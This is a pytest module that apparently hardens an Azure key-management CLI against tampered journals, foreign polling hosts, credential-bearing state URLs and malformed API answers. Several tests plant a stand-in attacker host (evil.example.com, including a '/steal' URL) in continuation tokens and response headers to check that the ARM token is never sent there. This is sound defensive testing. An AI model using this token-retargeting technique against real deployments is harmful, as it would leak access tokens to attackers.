"""Hostile state and hostile answers: what the journal or Azure says never sends a token elsewhere,
never plans a write from a view that could not be read, and never ends in a traceback.

Every case runs the real apply/plan (real SDKs) against the emulator; the emulator's request log
shows which hosts were called.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from azure.core.exceptions import ServiceResponseError
from reliability_support import (
    CLUSTER_PATH,
    SUB,
    Run,
    apply,
    estate_for,
    journal_in_flight,
    record,
    write_spec,
)

from controller.azure.clients import AzureClients
from controller.azure.errors import UntrustedEndpoint
from controller.cli import plan_cmd
from controller.state.sqlite_store import FILENAME

EVIL = "evil.example.com"


@pytest.fixture
def env(emulator: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    values = {
        **emulator.env,
        "CMKCTL_RETRY_BACKOFF": "0.01",
        "CMKCTL_POLLING_INTERVAL": "0.05",
        "CMKCTL_OPERATION_TIMEOUT": "2",
    }
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    yield


def plan(spec: Path, state: Path) -> Run:
    """`cmkctl plan -f SPEC` in this process, with what it printed."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = plan_cmd.run([str(spec)], state=str(state))
    return Run(rc, out.getvalue(), err.getvalue())


def _hosts(emulator: Any) -> set[str]:
    return {str(r.get("host") or "").split(":")[0].lower() for r in emulator.requests()}


def _retarget(token: str, host: str) -> str:
    """The continuation token with every URL's host replaced: what an attacker with the state can do."""
    outer = json.loads(base64.b64decode(token))
    data = outer["data"]
    data["request"]["url"] = data["request"]["url"].replace("management.azure.com", host)
    headers = data["response"]["headers"]
    for name in list(headers):
        if isinstance(headers[name], str):
            headers[name] = headers[name].replace("management.azure.com", host)
    return base64.b64encode(json.dumps(outer).encode()).decode()


def test_rewritten_resume_token_never_sends_the_arm_token_elsewhere(
    emulator: Any, env: None, tmp_path: Path
) -> None:
    """A journaled continuation token pointing at another host is refused, not polled."""
    estate = estate_for("create")
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    emulator.fault(method="PUT", path=CLUSTER_PATH, stick_operation=3600, count=1)
    first = apply(spec, state)
    assert first.rc == 3 and "still running" in first.text, first.text
    [op] = journal_in_flight(state)
    assert op.phase == "sent" and op.continuation_token
    db = sqlite3.connect(state / FILENAME)
    with db:
        db.execute(
            "UPDATE operations SET continuation_token = ?, status_url = ? WHERE op_id = ?",
            (_retarget(op.continuation_token, EVIL), f"https://{EVIL}/steal", op.op_id),
        )
    db.close()
    emulator.clear_requests()

    second = apply(spec, state)

    assert EVIL not in _hosts(emulator), emulator.requests()
    assert "Traceback" not in second.text, second.text
    assert f"refused to send a token to https://{EVIL}" in second.text, second.text
    puts = [r for r in emulator.requests() if r["method"] == "PUT" and r["path"].endswith("/relcluster01")]
    assert puts == [], "the running create was sent a second time"
    record("hardening", case="journal-token-retarget", hosts=sorted(_hosts(emulator)), rc=second.rc)


def test_token_for_another_resource_is_refused(emulator: Any, env: None) -> None:
    """A token from the journal polls only the resource its entry names."""
    from controller.azure.operations import Operations

    token = base64.b64encode(
        json.dumps(
            {
                "version": 1,
                "data": {
                    "request": {"method": "PUT", "url": f"https://management.azure.com/subscriptions/{SUB}/x"},
                    "response": {"status_code": 201, "headers": {}, "content": ""},
                },
            }
        ).encode()
    ).decode()
    clients = AzureClients()
    try:
        ops = Operations(clients)
        with pytest.raises(UntrustedEndpoint, match="another resource"):
            ops.check_resume_token(f"/subscriptions/{SUB}/resourceGroups/rg/providers/p/clusters/c", token)
        with pytest.raises(UntrustedEndpoint, match="unreadable"):
            ops.check_resume_token("/subscriptions/x", "gASVAAAA")  # a pickle, not azure-core's JSON
    finally:
        clients.close()


def test_sdk_never_sends_the_arm_token_to_a_foreign_host(emulator: Any, env: None) -> None:
    """Any URL the SDK follows (Location, Azure-AsyncOperation, nextLink) must be the cloud's ARM host."""
    from azure.core.rest import HttpRequest

    clients = AzureClients()
    try:
        la = clients.loganalytics(SUB)
        emulator.clear_requests()
        for url in (f"https://{EVIL}/x", "http://management.azure.com/x", "https://management.azure.com:8443/x"):
            with pytest.raises(UntrustedEndpoint):
                la._client.send_request(HttpRequest("GET", url))
        assert emulator.requests() == []
        with pytest.raises(UntrustedEndpoint):
            clients.keys(f"https://{EVIL}/")
    finally:
        clients.close()


def test_live_key_vault_host_outside_the_cloud_is_a_finding_not_a_call(
    emulator: Any, env: None, tmp_path: Path
) -> None:
    """A cluster whose live keyVaultUri names a foreign host: plan warns, and never calls that host."""
    estate = estate_for("capacity")
    foreign = {"keyVaultUri": f"https://{EVIL}/", "keyName": "cmk", "keyVersion": ""}
    estate.seed["clusters"][0]["key"] = foreign
    emulator.seed(estate.seed)
    spec = write_spec(tmp_path / "spec", estate)
    emulator.clear_requests()
    run = plan(spec, tmp_path / "state")
    assert EVIL not in _hosts(emulator), emulator.requests()
    assert "Traceback" not in run.text, run.text
    assert f"names the key vault host '{EVIL}'" in run.text and "not contacted" in run.text, run.text
    record("hardening", case="foreign-vault-host", rc=run.rc)


def test_read_timeout_holds_under_the_emulator(
    emulator: Any, env: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CMKCTL_AZURE_TIMEOUT: a request that hangs longer is abandoned after it, emulator or not."""
    estate = estate_for("capacity")
    emulator.seed(estate.seed)
    monkeypatch.setenv("CMKCTL_AZURE_TIMEOUT", "1")
    monkeypatch.setenv("CMKCTL_AZURE_RETRY_TOTAL", "0")
    emulator.fault(method="GET", path=CLUSTER_PATH, delay=6, count=1)
    clients = AzureClients()
    try:
        started = time.monotonic()
        with pytest.raises(ServiceResponseError):  # the read timed out
            clients.loganalytics(SUB).clusters.get("rg-rel", "relcluster01")
        elapsed = time.monotonic() - started
    finally:
        clients.close()
    assert elapsed < 4, f"waited {elapsed:.1f}s with a 1 s read timeout"


CLUSTER_LIST = r"/providers/Microsoft\.OperationalInsights/clusters$"


@pytest.mark.parametrize(
    ("label", "body", "said"),
    [
        ("value-not-a-list", {"value": "oops"}, "'value' is a str, not an array of objects"),
        ("empty-object", {}, "no 'value' array"),
        ("items-not-objects", {"value": [1, 2]}, "'value' has items that are not objects"),
        ("item-without-id", {"value": [{"name": "x"}]}, "a cluster with an unexpected shape"),
    ],
)
def test_unreadable_cluster_list_fails_instead_of_planning_creates(
    emulator: Any, env: None, tmp_path: Path, label: str, body: Any, said: str
) -> None:
    """A 200 list answer cmkctl cannot read is an error, never "no clusters" (no create planned)."""
    estate = estate_for("capacity")
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    emulator.fault(method="GET", path=CLUSTER_LIST, body=body)
    emulator.fault(method="GET", path=CLUSTER_PATH, status=404, code="ResourceNotFound", message="gone")
    emulator.clear_requests()

    planned = plan(spec, state)
    applied = apply(spec, state)

    for run in (planned, applied):
        assert run.rc != 0, run.text
        assert "Traceback" not in run.text and "to add" not in run.text, run.text
        assert said in run.text and "nothing is planned from an incomplete view" in run.text, run.text
    assert [r for r in emulator.requests() if r["method"] != "GET"] == [], "a write from an unreadable view"
    record("hardening", case=f"cluster-list-{label}", plan_rc=planned.rc, apply_rc=applied.rc)


@pytest.mark.parametrize(
    ("label", "damage"),
    [
        ("capacity-text", lambda c: c["sku"].update(capacity="abc")),
        ("identity-missing", lambda c: c.pop("identity")),
        ("location-missing", lambda c: c.pop("location")),
    ],
)
def test_unreadable_live_field_is_unknown_not_a_difference(
    emulator: Any, env: None, tmp_path: Path, label: str, damage: Any
) -> None:
    """A live field Azure's answer lacks or garbles: a plan warning, never a write or a false alarm."""
    from controller.azure.observe import list_raw

    estate = estate_for("capacity")
    estate.capacity = 1000  # the spec matches Azure: only the damaged field could differ
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    clients = AzureClients()
    try:
        base = f"/subscriptions/{SUB}/providers/Microsoft.OperationalInsights/clusters"
        [cluster] = list_raw(clients.loganalytics(SUB), base, list)
    finally:
        clients.close()
    damage(cluster)
    emulator.fault(method="GET", path=CLUSTER_LIST, body={"value": [cluster]})
    emulator.fault(method="GET", path=CLUSTER_PATH, body=cluster)
    emulator.clear_requests()

    planned = plan(spec, state)
    applied = apply(spec, state)

    for run in (planned, applied):
        assert run.rc == 0 and "Traceback" not in run.text, run.text
        assert "unknown, so nothing is changed for it" in run.text, run.text
        assert "to change" not in run.text or "0 to change" in run.text, run.text
    assert "revoked irreversibly" not in planned.text and "the cluster is in ," not in planned.text
    assert [r for r in emulator.requests() if r["method"] != "GET"] == [], "a write from an unknown field"
    record("hardening", case=f"unknown-{label}", plan_rc=planned.rc, apply_rc=applied.rc)


@pytest.mark.parametrize(
    "url",
    [
        "azureblob://stcmkstate/journal?sv=2024-01-01&sig=SENTINEL-SAS-SIG",
        "azureblob://stcmkstate/journal/history.json?sig=SENTINEL-SAS-SIG",
        "azureblob://me:SENTINEL-SAS-SIG@stcmkstate/journal",
    ],
)
def test_state_url_with_credentials_is_refused_without_echoing_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], url: str
) -> None:
    from controller.cli.app import main

    spec = write_spec(tmp_path / "spec", estate_for("capacity"))
    code = main(["plan", "-f", str(spec), "--state", url])
    out = capsys.readouterr()
    assert code != 0
    assert "credentials in the URL (a SAS query or user:password@) are refused" in out.err, out.err
    assert "SENTINEL" not in out.err + out.out and "Traceback" not in out.err


def test_emulator_is_named_once_and_what_if_clock_never_drives_apply(
    emulator: Any, env: None, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Output says it talks to the emulator; CMKCTL_NOW plans as of a date but apply refuses it."""
    from controller.cli.app import main

    estate = estate_for("capacity")
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    main(["plan", "-f", str(spec), "--state", str(state)])
    err = capsys.readouterr().err
    assert err.count("talking to the Azure emulator at") == 1, err

    monkeypatch.setenv("CMKCTL_NOW", "2030-01-01T00:00:00Z")
    assert main(["plan", "-f", str(spec), "--state", str(state)]) in (0, 2)
    capsys.readouterr()
    emulator.clear_requests()
    code = main(["apply", "-f", str(spec), "--state", str(state), "--auto-approve"])
    err = capsys.readouterr().err
    assert code != 0 and "CMKCTL_NOW is set" in err, err
    assert [r for r in emulator.requests() if r["method"] != "GET"] == []


def test_damaged_journal_gets_its_path_and_the_remedy(
    emulator: Any, env: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A journal that is not a database: plan and apply name the file and the way out, no internal error."""
    from controller.cli.app import main

    estate = estate_for("capacity")
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    state.mkdir()
    (state / FILENAME).write_bytes(b"this is not a journal" * 100)
    for argv in (["plan", "-f", str(spec)], ["apply", "-f", str(spec), "--auto-approve"]):
        code = main([*argv, "--state", str(state)])
        err = capsys.readouterr().err
        assert code != 0, err
        assert f"{state / FILENAME}: the journal is damaged" in err and "cmkctl state rebuild" in err, err
        assert "internal error" not in err and "Traceback" not in err, err


@pytest.mark.parametrize("damage", ["deleted", "emptied"])
def test_lost_journal_is_refused_not_started_empty(
    emulator: Any, env: None, tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    """A journal that existed and is gone or 0 bytes: refused with the way to rebuild, never empty."""
    from controller.cli.app import main

    estate = estate_for("capacity")
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    assert apply(spec, state).rc == 0
    journal = state / FILENAME
    if damage == "deleted":
        journal.unlink()
    else:
        journal.write_bytes(b"")
    for argv in (["plan", "-f", str(spec)], ["apply", "-f", str(spec), "--auto-approve"]):
        code = main([*argv, "--state", str(state)])
        err = capsys.readouterr().err
        assert code != 0, err
        assert "the journal is missing or empty" in err and "cmkctl state rebuild" in err, err
    assert not journal.exists() or journal.stat().st_size == 0  # nothing was started in its place


@pytest.mark.parametrize(
    ("label", "headers"),
    [
        ("async-operation", {"Azure-AsyncOperation": f"https://{EVIL}/operations/x?api-version=2025-07-01"}),
        ("location", {"Azure-AsyncOperation": None, "Location": f"https://{EVIL}/operationresults/x"}),
    ],
)
def test_foreign_host_in_an_lro_header_is_never_called(
    emulator: Any, env: None, tmp_path: Path, label: str, headers: dict[str, str | None]
) -> None:
    """Azure's answer to the create names another host to poll (Azure-AsyncOperation or Location): the
    CLI refuses to send the ARM token there, says so, and neither that run nor the next calls the host or
    sends the create again."""
    estate = estate_for("create")
    emulator.seed(estate.seed)
    spec, state = write_spec(tmp_path / "spec", estate), tmp_path / "state"
    emulator.fault(method="PUT", path=CLUSTER_PATH, headers=headers, count=1)
    emulator.clear_requests()

    runs = [
        subprocess.run(
            [sys.executable, "-m", "controller.cli", "apply", "-f", str(spec), "--state", str(state),
             "--auto-approve"],
            env={**os.environ, "NO_COLOR": "1"}, capture_output=True, text=True, timeout=180, check=False,
        )
        for _ in range(2)
    ]

    assert EVIL not in _hosts(emulator), [r for r in emulator.requests() if EVIL in str(r.get("host"))]
    first = runs[0].stdout + runs[0].stderr
    assert runs[0].returncode != 0 and f"refused to send a token to https://{EVIL}" in first, first
    for run in runs:
        assert "Traceback" not in run.stdout + run.stderr, run.stdout + run.stderr
    puts = [r for r in emulator.requests() if r["method"] == "PUT" and r["path"].endswith("/relcluster01")]
    assert len(puts) == 1, "the create was sent again"
    record("hardening", case=f"lro-header-{label}", rc=[r.returncode for r in runs], violations=0)
